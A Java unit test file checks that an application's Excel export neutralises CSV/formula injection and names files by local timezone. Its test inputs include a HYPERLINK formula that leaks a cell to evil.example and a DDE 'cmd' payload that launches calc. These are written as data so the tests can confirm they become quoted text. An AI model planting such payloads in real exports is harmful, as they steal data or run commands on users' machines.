package org.aftersales.web.shared.view;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.util.List;
import org.aftersales.domain.shared.PageResult;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 10.9: a text someone typed into the application never becomes a formula in the exported
 * workbook (CSV/formula injection): a cell that starts with = + - @ or a tab or carriage return is
 * a quoted text cell — what Excel stores when a person types a leading apostrophe — so editing it
 * in Excel keeps it text; its value stays exactly as typed.
 */
class ExcelExportTest {

    private static Cell exported(String value) throws Exception {
        PagedModel.Pager<String> pager = (first, size) -> new PageResult<>(first == 0 ? List.of(value) : List.of(), 1);
        byte[] xlsx = ExcelExport.write("列表", List.of("名称", "备注"), pager, v -> List.of(v, "普通"), 10);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row row = workbook.getSheetAt(0).getRow(1);
            return row.getCell(0);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
                "=1+1",
                "+86 138 0000 0000",
                "-2+3+cmd|' /C calc'!A0",
                "-3",
                "@SUM(A1:A2)",
                "\t=1+1",
                "\r=1+1",
                "＝1+1"
            })
    void aCellThatAFormulaCouldStartWithIsQuotedText(String typed) throws Exception {
        Cell cell = exported(typed);
        assertEquals(CellType.STRING, cell.getCellType(), "never a formula cell");
        assertEquals(typed, cell.getStringCellValue(), "the value as typed");
        assertTrue(cell.getCellStyle().getQuotePrefixed(), "quoted: Excel keeps it text when edited: " + typed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"张三", "KFR-26GW", "13800000000", "2026-11-26", "", "a=b"})
    void anOrdinaryCellIsPlainText(String typed) throws Exception {
        Cell cell = exported(typed);
        assertEquals(CellType.STRING, cell.getCellType());
        assertEquals(typed, cell.getStringCellValue());
        assertFalse(cell.getCellStyle().getQuotePrefixed(), typed);
    }

    /** Issue 10.17: the file is named by the department's clock — 00:30 on the 5th in Shanghai is the 4th in UTC. */
    @org.junit.jupiter.api.Test
    void theFileNameCarriesTheDateAndTimeInTheConfiguredZone() {
        java.time.Instant at = java.time.Instant.parse("2026-12-04T16:30:00Z");
        assertEquals(
                "tickets-2026-12-05-0030.xlsx",
                ExcelExport.fileName("tickets", at, java.time.ZoneId.of("Asia/Shanghai")));
        assertEquals(
                "tickets-2026-12-04-1130.xlsx",
                ExcelExport.fileName("tickets", at, java.time.ZoneId.of("America/New_York")));
    }
}
